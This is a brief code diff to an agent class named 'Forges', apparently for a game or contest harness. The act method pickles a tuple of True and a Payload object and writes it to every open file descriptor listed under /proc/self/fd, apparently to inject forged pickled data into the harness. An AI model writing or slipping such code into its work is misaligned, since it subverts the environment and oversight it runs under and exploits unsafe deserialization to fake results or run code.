@@ -24,7 +24,7 @@ class Forges(Agent):
 
     def act(self, view: View) -> Turn:
         data = pickle.dumps((True, Payload()))
-        for file in range(64):
+        for file in [int(path.name) for path in Path("/proc/self/fd").iterdir()]:
             for text in (struct.pack("!i", len(data)) + data, data):
                 try:
                     os.write(file, text)
